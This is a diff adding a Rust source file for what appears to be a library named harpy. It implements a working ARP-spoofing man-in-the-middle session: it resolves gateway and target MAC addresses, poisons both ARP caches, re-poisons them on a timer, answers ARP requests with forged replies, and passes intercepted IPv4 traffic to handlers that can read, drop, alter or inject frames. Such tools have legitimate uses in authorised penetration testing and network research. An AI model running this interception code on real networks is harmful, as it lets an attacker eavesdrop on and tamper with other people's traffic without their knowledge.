@@ -0,0 +1,578 @@
+use std::{
+    collections::HashMap,
+    net::Ipv4Addr,
+    sync::{Arc, atomic::{AtomicBool, Ordering}},
+    time::{Duration, Instant}
+};
+use pnet::{
+    datalink::{MacAddr, NetworkInterface},
+    packet::{
+        arp::{ArpPacket, ArpOperations},
+        ethernet::{EthernetPacket, MutableEthernetPacket, EtherTypes},
+        ipv4::{Ipv4Flags, Ipv4Packet},
+        Packet,
+        PacketSize
+    }
+};
+
+use crate::{
+    arp::ARPController,
+    encap::{self, Encapsulation},
+    error::HarpyError,
+    fastpath::{self, FastPath},
+    fragment::{self, OverlapPolicy, Reassembler, Reassembly},
+    icmp,
+    impair::{Flow, Impairments, ReleaseQueue, Selector},
+    metrics::{METRICS, Direction},
+    sink::Sink,
+    tcp,
+    util
+};
+
+/// What happens to an intercepted frame
+pub enum Verdict {
+    /// Pass the frame on to the next handler, and finally forward it
+    Forward,
+    /// Drop the frame, later handlers don't see it
+    Drop,
+    /// Continue with a modified frame
+    Replace(EthernetPacket<'static>)
+}
+
+/// Role of a host in a session
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HostRole {
+    Gateway,
+    Target
+}
+
+impl HostRole {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            HostRole::Gateway => "gateway",
+            HostRole::Target => "target"
+        }
+    }
+}
+
+/// An intercepted IPv4 frame between the gateway and a target
+pub struct Frame<'a> {
+    pub packet: &'a EthernetPacket<'static>,
+    /// The packet inside the VLAN tags, PPPoE session or MPLS labels of the frame, if any
+    pub ipv4: Ipv4Packet<'a>,
+    interface_mac: MacAddr,
+    sink: &'a Sink
+}
+
+impl<'a> Frame<'a> {
+    fn new(packet: &'a EthernetPacket<'static>, interface_mac: MacAddr, sink: &'a Sink) -> Option<Frame<'a>> {
+        let encapsulation = Encapsulation::parse(packet);
+        if encapsulation.ethertype != EtherTypes::Ipv4 {
+            return None;
+        }
+        Some(Frame {
+            packet,
+            ipv4: Ipv4Packet::new(&packet.packet()[encapsulation.offset..])?,
+            interface_mac,
+            sink
+        })
+    }
+    pub fn source(&self) -> Ipv4Addr {
+        self.ipv4.get_source()
+    }
+    pub fn destination(&self) -> Ipv4Addr {
+        self.ipv4.get_destination()
+    }
+    /// The MAC address of the spoofing interface, the source of injected frames
+    pub fn interface_mac(&self) -> MacAddr {
+        self.interface_mac
+    }
+    /// Sends an additional frame, f.e. a reply to the sender of this one
+    pub fn inject(&self, packet: EthernetPacket<'static>) {
+        self.sink.send(packet);
+    }
+    /// Sends `datagram` back to the sender of this frame, with the same tags
+    pub fn reply(&self, datagram: &[u8]) {
+        self.inject(reply_to(self.packet, self.interface_mac, datagram));
+    }
+}
+
+/// A frame carrying `datagram` from `interface_mac` to the sender of `packet`, tagged like it
+fn reply_to(packet: &EthernetPacket, interface_mac: MacAddr, datagram: &[u8]) -> EthernetPacket<'static> {
+    let mut reply = MutableEthernetPacket::owned(Encapsulation::parse(packet).with_payload(packet, datagram).packet().to_vec()).unwrap();
+    reply.set_source(interface_mac);
+    reply.set_destination(packet.get_source());
+    reply.consume_to_immutable()
+}
+
+/// Decides over intercepted frames. Handlers run in the order they were added to the session,
+/// each one sees the frame as the previous one left it.
+pub trait PacketHandler {
+    fn on_packet(&mut self, frame: &Frame) -> Verdict;
+    /// Decides over the spoofed `reply` harpy answers an ARP `request` of the gateway or a
+    /// target with. Defaults to sending it unchanged.
+    fn on_arp_reply(&mut self, _request: &EthernetPacket<'static>, _reply: &EthernetPacket<'static>) -> Verdict {
+        Verdict::Forward
+    }
+}
+
+impl<F: FnMut(&Frame) -> Verdict> PacketHandler for F {
+    fn on_packet(&mut self, frame: &Frame) -> Verdict {
+        self(frame)
+    }
+}
+
+/// Gets notified about the progress of a session, all methods default to doing nothing.
+/// Observers may be called from the re-poisoning thread, too.
+pub trait SessionObserver: Send + Sync {
+    fn on_mac_resolved(&self, _role: HostRole, _ip: Ipv4Addr, _mac: MacAddr) {}
+    /// The ARP caches of `gateway` and `target` were poisoned for the first time
+    fn on_spoofed(&self, _interface: &str, _gateway: Ipv4Addr, _target: Ipv4Addr) {}
+    /// A spoofed ARP reply was sent to `ip`
+    fn on_arp_reply(&self, _ip: Ipv4Addr) {}
+    /// An intercepted frame, before any handler ran
+    fn on_frame(&self, _frame: &Frame) {}
+}
+
+/// Stops a running session from another thread
+#[derive(Clone, Default)]
+pub struct StopHandle(Arc<AtomicBool>);
+
+impl StopHandle {
+    /// The session returns once the next frame arrives
+    pub fn stop(&self) {
+        self.0.store(true, Ordering::Relaxed);
+    }
+    pub fn is_stopped(&self) -> bool {
+        self.0.load(Ordering::Relaxed)
+    }
+}
+
+/// Configures a [`MitmSession`]
+pub struct MitmSessionBuilder {
+    interface: NetworkInterface,
+    gateway: Option<Ipv4Addr>,
+    targets: Vec<Ipv4Addr>,
+    repoison_interval: Option<Duration>,
+    mac_timeout: Duration,
+    capture_all: bool,
+    handlers: Vec<Box<dyn PacketHandler>>,
+    observers: Vec<Arc<dyn SessionObserver>>,
+    impairments: Option<Impairments>,
+    fast_path: Option<Vec<Selector>>,
+    reassembler: Reassembler,
+    mss_headroom: u16,
+    stop: StopHandle
+}
+
+impl MitmSessionBuilder {
+    /// The gateway to impersonate, defaults to the interface's default route
+    pub fn gateway(mut self, gateway: Ipv4Addr) -> Self {
+        self.gateway = Some(gateway);
+        self
+    }
+    pub fn target(mut self, target: Ipv4Addr) -> Self {
+        self.targets.push(target);
+        self
+    }
+    pub fn targets(mut self, targets: impl IntoIterator<Item = Ipv4Addr>) -> Self {
+        self.targets.extend(targets);
+        self
+    }
+    /// Re-send the spoofed ARP replies periodically, instead of only answering ARP requests
+    pub fn repoison_interval(mut self, interval: Duration) -> Self {
+        self.repoison_interval = Some(interval);
+        self
+    }
+    /// How long to wait for targets to answer ARP requests, unresponsive targets are skipped.
+    /// Defaults to 10 seconds.
+    pub fn mac_resolution_timeout(mut self, timeout: Duration) -> Self {
+        self.mac_timeout = timeout;
+        self
+    }
+    /// Pass all IPv4 frames received to the handlers, not just those of the targets
+    pub fn capture_all(mut self, capture_all: bool) -> Self {
+        self.capture_all = capture_all;
+        self
+    }
+    pub fn handler(mut self, handler: impl PacketHandler + 'static) -> Self {
+        self.handlers.push(Box::new(handler));
+        self
+    }
+    pub fn observer(mut self, observer: impl SessionObserver + 'static) -> Self {
+        self.observers.push(Arc::new(observer));
+        self
+    }
+    /// Delay, drop, duplicate or rate limit forwarded frames. Clones of `impairments` can change
+    /// the rules while the session runs.
+    pub fn impairments(mut self, impairments: Impairments) -> Self {
+        self.impairments = Some(impairments);
+        self
+    }
+    /// Let the kernel forward the traffic, only flows matching one of `intercepted` pass through
+    /// the handlers, an nftables table drops them from the kernel's forward path. Requires `nft`
+    /// and changes sysctls while running.
+    pub fn fast_path(mut self, intercepted: Vec<Selector>) -> Self {
+        self.fast_path = Some(intercepted);
+        self
+    }
+    /// How fragments are reassembled before the handlers see them, defaults to a timeout of
+    /// 30 seconds and dropping datagrams with overlapping fragments
+    pub fn fragments(mut self, timeout: Duration, overlap: OverlapPolicy) -> Self {
+        self.reassembler = Reassembler::new(timeout, overlap);
+        self
+    }
+    /// Bytes handlers may add to a TCP segment without it exceeding the MTU. The MSS announced
+    /// by intercepted SYN and SYN-ACK segments is clamped to leave that much room, defaults to 0.
+    pub fn mss_headroom(mut self, headroom: u16) -> Self {
+        self.mss_headroom = headroom;
+        self
+    }
+    /// Stops the session through `stop`, for handles needed before the session is built
+    pub fn stop_handle(mut self, stop: StopHandle) -> Self {
+        self.stop = stop;
+        self
+    }
+    pub fn build(self) -> Result<MitmSession, HarpyError> {
+        if self.targets.is_empty() {
+            return Err(HarpyError::NoTargets);
+        }
+        let gateway = self.gateway
+            .or_else(|| util::default_gateway(&self.interface))
+            .ok_or_else(|| HarpyError::NoGateway(self.interface.name.clone()))?;
+        Ok(MitmSession {
+            interface: self.interface,
+            gateway,
+            targets: self.targets,
+            repoison_interval: self.repoison_interval,
+            mac_timeout: self.mac_timeout,
+            capture_all: self.capture_all,
+            handlers: self.handlers,
+            observers: self.observers,
+            impairments: self.impairments,
+            fast_path: self.fast_path,
+            reassembler: self.reassembler,
+            mss_headroom: self.mss_headroom,
+            stop: self.stop
+        })
+    }
+}
+
+/// Places harpy between a gateway and its targets by ARP spoofing, and forwards their IPv4
+/// traffic through the packet handlers.
+///
+/// ```no_run
+/// use harpy::{MitmSession, Verdict, util};
+///
+/// let interface = util::find_interface("enp7s0")?;
+/// MitmSession::builder(interface)
+///     .target("192.168.0.53".parse().unwrap())
+///     .handler(|frame: &harpy::Frame| {
+///         println!("{} -> {}", frame.source(), frame.destination());
+///         Verdict::Forward
+///     })
+///     .build()?
+///     .run()?;
+/// # Ok::<(), harpy::HarpyError>(())
+/// ```
+pub struct MitmSession {
+    interface: NetworkInterface,
+    gateway: Ipv4Addr,
+    targets: Vec<Ipv4Addr>,
+    repoison_interval: Option<Duration>,
+    mac_timeout: Duration,
+    capture_all: bool,
+    handlers: Vec<Box<dyn PacketHandler>>,
+    observers: Vec<Arc<dyn SessionObserver>>,
+    impairments: Option<Impairments>,
+    fast_path: Option<Vec<Selector>>,
+    reassembler: Reassembler,
+    mss_headroom: u16,
+    stop: StopHandle
+}
+
+impl MitmSession {
+    pub fn builder(interface: NetworkInterface) -> MitmSessionBuilder {
+        MitmSessionBuilder {
+            interface,
+            gateway: None,
+            targets: Vec::new(),
+            repoison_interval: None,
+            mac_timeout: Duration::from_secs(10),
+            capture_all: false,
+            handlers: Vec::new(),
+            observers: Vec::new(),
+            impairments: None,
+            fast_path: None,
+            reassembler: Reassembler::default(),
+            mss_headroom: 0,
+            stop: StopHandle::default()
+        }
+    }
+
+    pub fn gateway(&self) -> Ipv4Addr {
+        self.gateway
+    }
+    pub fn stop_handle(&self) -> StopHandle {
+        self.stop.clone()
+    }
+
+    /// Resolves the hosts, poisons their ARP caches and forwards their traffic until stopped
+    pub fn run(mut self) -> Result<(), HarpyError> {
+        let (interface, gateway) = (&self.interface, self.gateway);
+        let sink = Arc::new(Sink::new(interface)?);
+        let mut arp = ARPController::new(interface, sink.clone())?;
+        let (primary_ip, interface_mac) = (arp.ip(), arp.mac());
+        let mtu = sink.mtu() as usize;
+        // 40 bytes for IPv4 and TCP headers without options
+        let mss = mtu.saturating_sub(40 + self.mss_headroom as usize).clamp(tcp::MIN_MSS as usize, u16::MAX as usize) as u16;
+        if mss as usize + 40 + self.mss_headroom as usize > mtu {
+            warn!("A headroom of {} bytes doesn't fit an MTU of {}, clamping the MSS to {}", self.mss_headroom, mtu, mss);
+        }
+
+        let rx_channel = sink.add_rx();
+        let clone = sink.clone();
+        std::thread::spawn(move || {
+            let sink = clone.clone();
+            sink.run()
+        });
+        let release_queue = self.impairments.as_ref().map(|_| ReleaseQueue::start(sink.clone()));
+
+        let gateway_mac = arp.resolve_mac(&gateway).ok_or(HarpyError::MacResolution(gateway))?;
+        info!("Gateway MAC: {} -> {}", gateway, gateway_mac);
+        self.observers.iter().for_each(|observer| observer.on_mac_resolved(HostRole::Gateway, gateway, gateway_mac));
+
+        let resolved = arp.resolve_macs(&self.targets, self.mac_timeout);
+        let mut targets: Vec<(Ipv4Addr, MacAddr)> = Vec::new();
+        for target in self.targets.iter().filter(|target| **target != primary_ip) {
+            match resolved.get(target) {
+                Some(&target_mac) => {
+                    info!("Target MAC: {} -> {}", target, target_mac);
+                    self.observers.iter().for_each(|observer| observer.on_mac_resolved(HostRole::Target, *target, target_mac));
+                    targets.push((*target, target_mac));
+                },
+                None => warn!("Could not resolve MAC for target: {}, skipping it", target)
+            }
+        }
+        if targets.is_empty() {
+            return Err(HarpyError::NoTargetReachable);
+        }
+        let target_macs: HashMap<Ipv4Addr, MacAddr> = targets.iter().copied().collect();
+        // Enabled before poisoning, so the targets never lose connectivity. Restored when dropped.
+        let _fast_path = self.fast_path.as_deref().map(|intercepted| FastPath::enable(&interface.name, intercepted, self.stop.clone())).transpose()?;
+
+        // Spoof both the gateway and the targets
+        let poison = {
+            let targets = targets.clone();
+            let observers = self.observers.clone();
+            move |arp: &mut ARPController| {
+                for &(target, target_mac) in targets.iter() {
+                    arp.spoof(gateway, interface_mac, target, target_mac);
+                    arp.spoof(target, interface_mac, gateway, gateway_mac);
+                    observers.iter().for_each(|observer| observer.on_arp_reply(target));
+                }
+                observers.iter().for_each(|observer| observer.on_arp_reply(gateway));
+            }
+        };
+        poison(&mut arp);
+        for (target, _) in targets.iter() {
+            info!("Spoofed ARP entries for {} and {}", gateway, target);
+            self.observers.iter().for_each(|observer| observer.on_spoofed(&interface.name, gateway, *target));
+        }
+        if let Some(interval) = self.repoison_interval {
+            let mut arp = ARPController::new(interface, sink.clone())?;
+            std::thread::spawn(move || loop {
+                std::thread::sleep(interval);
+                debug!("Re-poisoning ARP caches");
+                poison(&mut arp);
+            });
+        }
+
+        'network: loop {
+            if self.stop.is_stopped() {
+                return Ok(());
+            }
+            let packet = rx_channel.recv().unwrap();
+
+            // Check if the packet is an ARP request for the target
+            // If it is, spoof the ARP reply
+            let encapsulation = Encapsulation::parse(&packet);
+            if encapsulation.ethertype == EtherTypes::Arp {
+                if let Some(arp_packet) = ArpPacket::new(encapsulation.payload(&packet)) {
+                    let target_ip = arp_packet.get_target_proto_addr();
+                    let sender_ip = arp_packet.get_sender_proto_addr();
+                    if arp.spoof_table().contains(&target_ip)
+                        && ((sender_ip == gateway && target_macs.contains_key(&target_ip))
+                            || (target_macs.contains_key(&sender_ip) && target_ip == gateway)) {
+                        debug!("{} is requesting {}, spoofing...", sender_ip, target_ip);
+                        let arp_response = ARPController::build_arp_packet(
+                            interface_mac,
+                            arp_packet.get_sender_hw_addr(),
+                            interface_mac,
+                            target_ip,
+                            arp_packet.get_sender_hw_addr(),
+                            sender_ip,
+                            ArpOperations::Reply
+                        );
+                        // Requests from a VLAN are answered on it
+                        let arp_response = encap::retag(&arp_response, &encapsulation.tags).unwrap_or(arp_response);
+                        match process_arp_reply(&mut self.handlers, &packet, arp_response) {
+                            Some(arp_response) => {
+                                sink.send(EthernetPacket::owned(arp_response.packet().to_vec()).unwrap());
+                                METRICS.arp_replies_sent.inc();
+                                std::thread::sleep(Duration::from_millis(150));
+                                sink.send(arp_response);
+                                METRICS.arp_replies_sent.inc();
+                                self.observers.iter().for_each(|observer| observer.on_arp_reply(sender_ip));
+                            },
+                            None => debug!("The reply to {} was vetoed by a handler", sender_ip)
+                        }
+                    }
+                }
+            }
+
+            if encapsulation.ethertype != EtherTypes::Ipv4 {
+                continue 'network;
+            }
+            let Some(ipv4) = Ipv4Packet::new(encapsulation.payload(&packet)) else {
+                continue 'network;
+            };
+            let (source_ip, target_ip) = (ipv4.get_source(), ipv4.get_destination());
+            trace!("{} -> {}", source_ip, target_ip);
+
+            // The kernel forwards everything that isn't intercepted
+            if self.fast_path.as_deref().is_some_and(|intercepted| !fastpath::intercepts(intercepted, &ipv4)) {
+                continue 'network;
+            }
+
+            let is_targeted = target_macs.contains_key(&source_ip) || target_macs.contains_key(&target_ip) && target_ip != primary_ip;
+            // Length of the datagram before the handlers ran, to tell by how much they grew it
+            let mut received_length = ipv4.get_total_length() as usize;
+            let packet = match is_targeted || self.capture_all {
+                true => {
+                    // Handlers see whole datagrams, fragments are held back until it's complete
+                    let (packet, intercepted) = match fragment::is_fragment(&ipv4) {
+                        true => match self.reassembler.push(&ipv4, Instant::now()) {
+                            Reassembly::Complete(datagram) => {
+                                received_length = datagram.len();
+                                // The fast path takes all fragments of a host, only now the ports are known
+                                let intercepted = Ipv4Packet::new(&datagram)
+                                    .is_some_and(|datagram| self.fast_path.as_deref().is_none_or(|intercepted| fastpath::intercepts(intercepted, &datagram)));
+                                (encapsulation.with_payload(&packet, &datagram), intercepted)
+                            },
+                            Reassembly::Incomplete | Reassembly::Dropped => continue 'network
+                        },
+                        false => (packet, true)
+                    };
+                    match intercepted {
+                        true => match process(&mut self.handlers, &self.observers, packet, interface_mac, &sink) {
+                            Some(packet) => packet,
+                            None => continue 'network
+                        },
+                        false => packet
+                    }
+                },
+                false => packet
+            };
+            // Handlers may return anything, only forward what is still IPv4
+            let encapsulation = Encapsulation::parse(&packet);
+            if encapsulation.ethertype != EtherTypes::Ipv4 {
+                continue 'network;
+            }
+            // PPPoE headers and MPLS labels take their share of the link's MTU
+            let mtu = mtu.saturating_sub(encapsulation.overhead()).max(fragment::MIN_MTU);
+            // Handshakes of intercepted flows announce an MSS that fits what the handlers add
+            let mss = mss.saturating_sub(encapsulation.overhead() as u16).max(tcp::MIN_MSS);
+            let packet = match Ipv4Packet::new(encapsulation.payload(&packet)).filter(|_| is_targeted || self.capture_all).and_then(|ipv4| tcp::clamp_mss(&ipv4, mss)) {
+                Some(datagram) => {
+                    METRICS.mss_clamped.inc();
+                    encapsulation.with_payload(&packet, &datagram)
+                },
+                None => packet
+            };
+            let Some(ipv4) = Ipv4Packet::new(encapsulation.payload(&packet)) else {
+                continue 'network;
+            };
+            let route = if target_macs.values().any(|&mac| mac == packet.get_source()) && ipv4.get_destination() != primary_ip {
+                Some((Direction::TargetToGateway, gateway_mac))
+            } else if packet.get_source() == gateway_mac {
+                target_macs.get(&ipv4.get_destination()).map(|&target_mac| (Direction::GatewayToTarget, target_mac))
+            } else {
+                None
+            };
+            if let Some((direction, destination)) = route {
+                METRICS.frames_received(direction).inc();
+                trace!("[{:?}] Rerouting {} bytes of data", direction, ipv4.packet_size());
+
+                // Reassembled or tampered datagrams may not fit the link anymore
+                let length = (ipv4.get_total_length() as usize).min(ipv4.packet().len());
+                let datagrams = if length <= mtu {
+                    vec![ipv4.packet().to_vec()]
+                } else if ipv4.get_flags() & Ipv4Flags::DontFragment != 0 {
+                    // Leave room for what the handlers added, so the sender's next datagrams fit
+                    let announced = mtu.saturating_sub(length.saturating_sub(received_length)).max(fragment::MIN_MTU);
+                    debug!("{} bytes from {} exceed the MTU and may not be fragmented, announcing an MTU of {}", length, source_ip, announced);
+                    sink.send(reply_to(&packet, interface_mac, &icmp::fragmentation_needed(&ipv4, announced as u16)));
+                    METRICS.icmp_frag_needed_sent.inc();
+                    continue 'network;
+                } else {
+                    let fragments = fragment::fragment(&ipv4, mtu);
+                    METRICS.fragments_sent.add(fragments.len() as u64);
+                    fragments
+                };
+
+                let flow = Flow::of(&ipv4);
+                let mut forwarded = false;
+                for datagram in datagrams {
+                    let mut ethernet_packet = MutableEthernetPacket::owned(encapsulation.with_payload(&packet, &datagram).packet().to_vec()).unwrap();
+                    ethernet_packet.set_source(interface_mac);
+                    ethernet_packet.set_destination(destination);
+                    let frame = ethernet_packet.consume_to_immutable();
+
+                    let releases = self.impairments.as_ref()
+                        .and_then(|impairments| impairments.schedule(&flow, frame.packet().len(), direction, Instant::now()));
+                    match (releases, &release_queue) {
+                        (Some(releases), Some(release_queue)) => for release in releases {
+                            release_queue.push(release, EthernetPacket::owned(frame.packet().to_vec()).unwrap());
+                            forwarded = true;
+                        },
+                        _ => {
+                            sink.send(frame);
+                            forwarded = true;
+                        }
+                    }
+                }
+                if forwarded {
+                    METRICS.frames_forwarded(direction).inc();
+                }
+            }
+        }
+    }
+}
+
+/// Runs an intercepted frame through the observers and handlers, `None` if it was dropped
+fn process(handlers: &mut [Box<dyn PacketHandler>], observers: &[Arc<dyn SessionObserver>], mut packet: EthernetPacket<'static>, interface_mac: MacAddr, sink: &Sink) -> Option<EthernetPacket<'static>> {
+    let frame = Frame::new(&packet, interface_mac, sink)?;
+    observers.iter().for_each(|observer| observer.on_frame(&frame));
+
+    for handler in handlers.iter_mut() {
+        let verdict = handler.on_packet(&Frame::new(&packet, interface_mac, sink)?);
+        match verdict {
+            Verdict::Forward => (),
+            Verdict::Drop => return None,
+            Verdict::Replace(replaced) => packet = replaced
+        }
+    }
+    Some(packet)
+}
+/// Runs a spoofed ARP reply through the handlers, `None` if one of them vetoed it
+fn process_arp_reply(handlers: &mut [Box<dyn PacketHandler>], request: &EthernetPacket<'static>, mut reply: EthernetPacket<'static>) -> Option<EthernetPacket<'static>> {
+    for handler in handlers.iter_mut() {
+        match handler.on_arp_reply(request, &reply) {
+            Verdict::Forward => (),
+            Verdict::Drop => return None,
+            Verdict::Replace(replaced) => reply = replaced
+        }
+    }
+    Some(reply)
+}